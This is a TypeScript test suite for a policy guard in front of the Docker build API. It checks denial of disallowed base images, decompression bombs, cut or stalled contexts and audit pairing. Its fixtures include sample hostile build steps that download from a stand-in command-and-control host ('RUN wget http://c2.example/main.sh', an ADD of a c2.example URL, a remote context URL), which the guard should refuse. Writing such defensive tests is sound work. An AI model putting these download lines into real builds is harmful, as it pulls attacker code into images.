import { connect, type Socket } from 'node:net';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import t, { type Test } from 'tap';
import { compressed, hasZstd } from '../support/compressed.js';
import { file, symlink, tar } from '../support/tar.js';
import { FIN, RESET, talk, type Part } from '../support/raw.js';
import { bytes, json, type Arrived, type Behaviour } from '../support/recording-upstream.js';
import { startGuarded, unpaired, type AuditLine } from './guarded.js';

// The context of a classic build is read while it streams; the engine gets the end of the archive after the verdict.

const POLICY = {
  sources: { insider: { listener: ['unix'] } },
  rules: [
    { id: 'ping', sources: ['*'], operations: ['SystemPing'] },
    {
      id: 'build',
      sources: ['*'],
      operations: ['ImageBuild'],
      where: { 'build.from': { each: ['alpine:*'] }, 'build.target': '' },
      rewrite: { labels: { by: 'alpine' } },
    },
    {
      id: 'other',
      sources: ['*'],
      operations: ['ImageBuild'],
      where: { 'build.from': { each: ['busybox:*'] }, 'build.target': '' },
      rewrite: { labels: { by: 'busybox' } },
    },
    {
      id: 'insider',
      sources: ['insider'],
      operations: ['ImageBuild'],
      where: { 'build.from': { each: ['debian:*'] }, 'build.target': '' },
      permit: ['opaque:context'],
    },
    {
      id: 'no-root',
      effect: 'deny',
      sources: ['*'],
      operations: ['ImageBuild'],
      where: { 'build.users': { any: ['root'] } },
    },
  ],
};

const guarded = await startGuarded({ policy: POLICY, limits: { context: 1 << 20, bodyIdle: 300 } });
t.teardown(() => guarded.close());
const { upstream } = guarded;

const END_OF_ARCHIVE = Buffer.alloc(1024);
const dockerfile = (text: string): Buffer => tar(file('Dockerfile', text), file('data', 'x'.repeat(5000)));

function post(body: Buffer, query = '', headers: readonly string[] = []): Buffer {
  const head = [
    `POST /v1.41/build?t=app${query} HTTP/1.1`,
    'Host: docker',
    'Content-Type: application/x-tar',
    `Content-Length: ${body.length}`,
    ...headers,
  ];
  return Buffer.concat([Buffer.from(`${head.join('\r\n')}\r\n\r\n`), body]);
}

interface Seen {
  readonly status: number;
  readonly message: string;
  readonly code: string;
  readonly lines: number;
}

async function attempt(t: Test, parts: readonly Part[], timeout = 5_000): Promise<Seen> {
  guarded.audit();
  upstream.forget();
  const got = await talk(guarded.tcp, parts, { timeout });
  t.equal(got.timedOut, false, 'answered or cut in time');
  await new Promise((resolve) => setTimeout(resolve, 60));
  const audit = guarded.audit().filter(({ operation }) => operation === 'ImageBuild');
  const decision = audit.find(({ event }) => event === 'decision');
  t.equal(audit.length, 2, 'one decision and one outcome');
  return {
    status: got.answers[0]?.status ?? 0,
    message: got.answers[0]?.body.toString() ?? '',
    code: decision?.code ?? '',
    lines: audit.length,
  };
}

/** Nothing that the engine got makes it build. */
function builtNothing(t: Test): void {
  t.notOk(
    upstream.requests.some(({ complete }) => complete),
    'no whole request reached the engine',
  );
  t.notOk(upstream.raw().includes(END_OF_ARCHIVE.toString('latin1')), 'no end of archive reached the engine');
  t.ok(
    upstream.requests.every(({ gone }) => gone),
    'its connections are gone',
  );
}

await t.test('a good context arrives anew, with its end, labels and all', async (t) => {
  for (const [name, body] of [
    ['plain', dockerfile('FROM alpine\nRUN echo hi\n')],
    ['gzip', gzipSync(dockerfile('FROM alpine\nRUN echo hi\n'))],
    ['xz', compressed('alpine.xz')],
    ...(hasZstd ? ([['zstd', compressed('alpine.zst')]] as const) : []),
    ['no end blocks', dockerfile('FROM alpine\nRUN echo hi\n').subarray(0, -1024)],
  ] as const) {
    const seen = await attempt(t, [post(body)]);
    t.match(seen, { status: 200, code: 'allowed' }, name);
    const arrived = upstream.requests[0];
    t.match(arrived?.call, /^POST \/v1.41\/build\?labels=%7B%22by%22%3A%22alpine%22%7D&t=app$/, 'rewritten');
    t.equal(arrived?.complete, true);
    t.ok(arrived?.body.includes('FROM alpine'), 'uncompressed');
    t.ok(arrived?.body.subarray(-1024).equals(END_OF_ARCHIVE), 'ends as an archive');
  }
  const waits = post(dockerfile('FROM alpine\n'), '', ['Expect: 100-continue']);
  t.match(await attempt(t, [waits]), { code: 'allowed' }, 'Expect: 100-continue');
  t.equal(upstream.requests.length, 1);
  const upgraded = post(dockerfile('FROM alpine\n'), '', ['Connection: Upgrade', 'Upgrade: tcp']);
  t.match(await attempt(t, [upgraded]), { status: 200 }, 'Upgrade on a build is ignored, its body is framed');
  t.equal(upstream.requests[0]?.complete, true);
});

await t.test('a context that is denied has no end for the engine', async (t) => {
  const denied: readonly (readonly [name: string, body: Buffer, message: RegExp])[] = [
    ['another base', dockerfile('FROM evil\n'), /build\.from/],
    ['another base in xz', compressed('evil.xz'), /build\.from/],
    ...(hasZstd ? ([['another base in zstd', compressed('evil.zst'), /build\.from/]] as const) : []),
    [
      'a download',
      dockerfile('FROM alpine\nRUN wget http://c2.example/main.sh\n'),
      /download:http:\/\/c2\.example/,
    ],
    ['ADD of a URL', dockerfile('FROM alpine\nADD http://c2.example/x /x\n'), /add-url:/],
    ['a deny rule', dockerfile('FROM alpine\nUSER root\n'), /no-root/],
    ['no Dockerfile', tar(file('x', 'y')), /no Dockerfile/],
    ['two Dockerfiles', tar(file('Dockerfile', 'FROM alpine\n'), file('Dockerfile', 'FROM evil\n')), /twice/],
    [
      'a directory that is a link',
      tar(file('Dockerfile', 'FROM alpine\n'), symlink('d', '.'), file('d/Dockerfile', 'FROM evil\n')),
      /symbolic link/,
    ],
    ['another rewrite for another base', dockerfile('FROM busybox\n'), /rewrite/],
    ['an unreadable Dockerfile', dockerfile('FROM\n'), /; ambiguous: /],
  ];
  for (const [name, body, message] of denied) {
    const seen = await attempt(t, [post(body)]);
    t.equal(seen.status, 403, name);
    t.match(seen.message, message, 'the reason is told');
    builtNothing(t);
  }
});

await t.test('what no context could make right is denied unread', async (t) => {
  for (const query of ['&remote=http%3A%2F%2Fc2.example%2Fx', '&networkmode=host', '&target=x']) {
    const seen = await attempt(t, [post(dockerfile('FROM alpine\n'), query)]);
    t.equal(seen.status, 403, query);
    t.equal(upstream.raw(), '', 'nothing reached the engine');
  }
});

await t.test('a context that is broken, cut, silent or too large', async (t) => {
  const body = dockerfile('FROM alpine\n');
  const half = post(body).subarray(0, 1500);
  const chunked = 'POST /v1.41/build HTTP/1.1\r\nHost: docker\r\nTransfer-Encoding: chunked\r\n\r\n';
  const cases: readonly [name: string, parts: readonly Part[], status: number][] = [
    ['not an archive', [post(Buffer.from('FROM alpine\n'.repeat(100)))], 400],
    ['an archive that stops', [post(body.subarray(0, 520))], 400],
    ['bzip2', [post(compressed('alpine.bz2'))], 415],
    ['another base in bzip2', [post(compressed('evil.bz2'))], 415],
    ['bzip2 that stops', [post(compressed('alpine.bz2').subarray(0, -1))], 415],
    ['xz that stops', [post(compressed('alpine.xz').subarray(0, -1))], 400],
    ['xz with a wrong checksum', [post(damaged(compressed('alpine.xz')))], 400],
    ['zstd that stops', [post(compressed('alpine.zst').subarray(0, -1))], hasZstd ? 400 : 415],
    ['a wrong checksum', [post(damaged(compressed('alpine.zst')))], hasZstd ? 400 : 415],
    ['a bomb of bzip2', [post(compressed('bomb.bz2'))], 415],
    ['a bomb of xz', [post(compressed('bomb.xz'))], 413],
    ['a bomb of zstd', [post(compressed('bomb.zst'))], hasZstd ? 413 : 415],
    ['silent in the middle of xz', [post(compressed('large.xz')).subarray(0, 1000)], 408],
    ['silent in the middle', [half], 408],
    [
      'larger than the limit',
      [post(tar(file('Dockerfile', 'FROM alpine\n'), file('big', 'x'.repeat(2 << 20))))],
      413,
    ],
    ['the client ends its half in the middle', [half, FIN], 0],
    ['the client resets in the middle', [half, 50, RESET], 0],
    ['a chunk of nonsense', [`${chunked}5\r\nhello\r\nzz\r\n`], 400],
  ];
  for (const [name, parts, status] of cases) {
    const seen = await attempt(t, parts);
    if (status !== 0) t.equal(seen.status, status, `${name}: ${seen.code} ${seen.message}`);
    else t.not(seen.status, 200, name);
    if (status === 415) t.match(seen.message, /use gzip|with gzip instead/, `${name}: says what to do`);
    builtNothing(t);
  }
});

function damaged(bytes: Buffer): Buffer {
  bytes[bytes.length - 1]! ^= 1;
  return bytes;
}

/** Done as soon as the head is there. */
const early =
  (behave: Behaviour) =>
  (request: Arrived, socket: Socket): boolean => {
    behave(request, socket);
    return true;
  };

await t.test('an engine that answers before it has the context', async (t) => {
  const slow = [
    post(dockerfile('FROM alpine\n')).subarray(0, 1500),
    200,
    post(dockerfile('FROM alpine\n')).subarray(1500),
  ];
  upstream.onHead = early(json(400, '{"message":"invalid reference format"}'));
  const refused = await attempt(t, slow);
  t.match(refused, { status: 400, code: 'engine-refused', message: /invalid reference format/ });
  upstream.onHead = early(json(200));
  t.match(await attempt(t, slow), { status: 502 }, 'an early success is not believed');
  upstream.onHead = early(bytes('', 'end'));
  t.match(await attempt(t, slow), { status: 502 });
  upstream.onHead = undefined;
});

await t.test('a client that closes as soon as the engine has refused its build', async (t) => {
  const head = post(dockerfile('FROM alpine\n')).subarray(0, 1500).toString('latin1');
  upstream.onHead = early(json(400, '{"message":"invalid reference format"}'));
  for (const extra of ['Connection: close', 'Connection: Upgrade\r\nUpgrade: tcp']) {
    for (let round = 0; round < 5; round++) {
      const { answers } = await talk(guarded.tcp, [head.replace('\r\n', `\r\n${extra}\r\n`), 5, 'x'], {
        linger: 0,
      });
      t.equal(answers[0]?.status, 400, 'it gets the answer');
    }
  }
  upstream.onHead = undefined;
  // A rejection that nobody handles ends the process.
  t.same(unpaired(guarded.auditText()), []);
});

await t.test('the engine answers or breaks off while the verdict is on its way to the record', async (t) => {
  const answer = 'HTTP/1.1 400 X\r\nContent-Length: 16\r\n\r\n{"message":"no"}';
  const engineDoes: readonly ((engine: Socket) => void)[] = [
    (engine) => void engine.write(answer),
    (engine) => void engine.end(answer),
    (engine) => void engine.destroy(),
    (engine) => void engine.write('HTTP/1.1 200 X\r\nContent-Length: 2\r\n\r\n{}'),
  ];
  const ends = new Set<string>();
  for (const from of ['alpine', 'evil']) {
    const wire = post(dockerfile(`FROM ${from}\n`));
    for (let round = 0; round < 40; round++) {
      guarded.audit();
      upstream.forget();
      const head = new Promise<Socket>((resolve) => {
        upstream.onHead = (_request, engine) => {
          resolve(engine);
          return false;
        };
      });
      const client = connect(guarded.tcp);
      client.on('error', () => {}).on('data', () => {});
      client.write(wire.subarray(0, 1500));
      const engine = await head;
      await new Promise((resolve) => setTimeout(resolve, 5));
      const does = engineDoes[round % engineDoes.length]!;
      // Both are there when the guard looks next, in this order or the other.
      if (round % 8 < 4) client.write(wire.subarray(1500), () => {});
      does(engine);
      if (round % 8 >= 4) client.write(wire.subarray(1500), () => {});
      const lines: AuditLine[] = [];
      for (let wait = 0; wait < 200 && lines.length < 2; wait++) {
        await new Promise((resolve) => setTimeout(resolve, 10));
        lines.push(...guarded.audit());
      }
      // Time for a line too many.
      await new Promise((resolve) => setTimeout(resolve, 15));
      client.destroy();
      lines.push(...guarded.audit());
      t.strictSame(
        lines.map(({ event }) => event),
        ['decision', 'outcome'],
        `${from}, round ${round}: one decision, one outcome`,
      );
      ends.add(`${lines[0]?.code} ${lines[1]?.status}`);
      t.notOk(
        upstream.requests.some(({ complete }) => complete && from === 'evil'),
        'a denied one has no end',
      );
    }
  }
  upstream.onHead = undefined;
  t.notOk(
    [...ends].some((end) => end.endsWith(' 500')),
    `the engine is at fault, not the guard: ${[...ends].join(', ')}`,
  );
});

await t.test('an engine that takes nothing holds no call for ever', async (t) => {
  const stalled = await startGuarded({ policy: POLICY, limits: { context: 1 << 28, bodyIdle: 300 } });
  t.teardown(() => stalled.close());
  stalled.upstream.onHead = (_request, engine) => {
    engine.pause();
    return true;
  };
  const big = tar(file('Dockerfile', 'FROM alpine\n'), file('big', Buffer.alloc(8 << 20, 'x')));
  const got = await talk(stalled.tcp, [post(big)], { timeout: 4_000 });
  t.equal(got.answers[0]?.status, 504);
  t.match(got.text, /engine took nothing of the build context/);
  // Nobody reads from this client any more: that it has left is only seen by the limit.
  await talk(stalled.tcp, [post(big).subarray(0, 6 << 20), 100, RESET], { timeout: 2_000 });
  await new Promise((resolve) => setTimeout(resolve, 700));
  t.equal(await stalled.metric('breakwater_calls_open'), 0);
  t.strictSame(unpaired(stalled.auditText()), []);
});

await t.test('a policy that only observes stops no build, and tells which rewrite was sent', async (t) => {
  const observing = await startGuarded({ policy: { mode: 'observe', ...POLICY } });
  t.teardown(() => observing.close());
  for (const [from, verdict] of [
    ['evil', 'deny'],
    ['busybox', 'allow'],
    ['alpine', 'allow'],
  ] as const) {
    observing.upstream.forget();
    const got = await talk(observing.tcp, [post(dockerfile(`FROM ${from}\n`))]);
    t.equal(got.answers[0]?.status, 200, from);
    t.match(observing.upstream.requests, [{ complete: true, call: /alpine/ }]);
    const [decision] = observing.audit();
    t.equal(decision?.verdict, verdict);
    t.match(
      JSON.stringify(decision),
      /"rewrites":\["[^\]]*alpine/,
      'what was sent, not what would have been',
    );
  }
});

await t.test('a guard that stops in the middle of a context', async (t) => {
  const stopping = await startGuarded({ policy: POLICY });
  t.teardown(() => stopping.close());
  const half = post(dockerfile('FROM alpine\n')).subarray(0, 1500);
  const talking = talk(stopping.tcp, [half], { timeout: 3_000 });
  await new Promise((resolve) => setTimeout(resolve, 100));
  await stopping.stop(50);
  t.equal((await talking).timedOut, false);
  t.match(stopping.audit(), [{ code: 'shutting-down' }, { end: 'shutdown' }]);
  t.notOk(stopping.upstream.requests.some(({ complete }) => complete));
});

await t.test('what stands behind a build on its connection', async (t) => {
  guarded.audit();
  upstream.forget();
  const ping = 'GET /_ping HTTP/1.1\r\nHost: docker\r\n\r\n';
  for (const [from, status] of [
    ['alpine', 200],
    ['evil', 403],
  ] as const) {
    const got = await talk(guarded.tcp, [post(dockerfile(`FROM ${from}\n`)), ping], { answers: 2 });
    t.strictSame(
      got.answers.map((answer) => answer.status),
      [status, 200],
      'the next call is served, in turn',
    );
  }
  const upgrade = post(dockerfile('FROM evil\n'), '', ['Connection: Upgrade', 'Upgrade: tcp']);
  const got = await talk(guarded.tcp, [upgrade, ping], { answers: 0 });
  t.strictSame(
    got.answers.map((answer) => answer.status),
    [403],
    'a denied one with an Upgrade header ends the connection',
  );
  t.strictSame(unpaired(guarded.auditText()), []);
});

await t.test('cut anywhere: one decision, one outcome, never a build of a part', async (t) => {
  const wire = post(dockerfile('FROM alpine\nRUN echo hi\n'));
  await fc.assert(
    fc.asyncProperty(fc.nat(wire.length - 2), fc.constantFrom(FIN, RESET), async (at, how) => {
      upstream.forget();
      await talk(guarded.tcp, [wire.subarray(0, at), 5, how], { timeout: 3_000 });
      return !upstream.requests.some(({ complete }) => complete);
    }),
    { numRuns: 40, seed: 7 },
  );
  await new Promise((resolve) => setTimeout(resolve, 500));
  t.strictSame(unpaired(guarded.auditText()), []);
  t.equal(await guarded.metric('breakwater_calls_open'), 0, 'no call is left over');
});
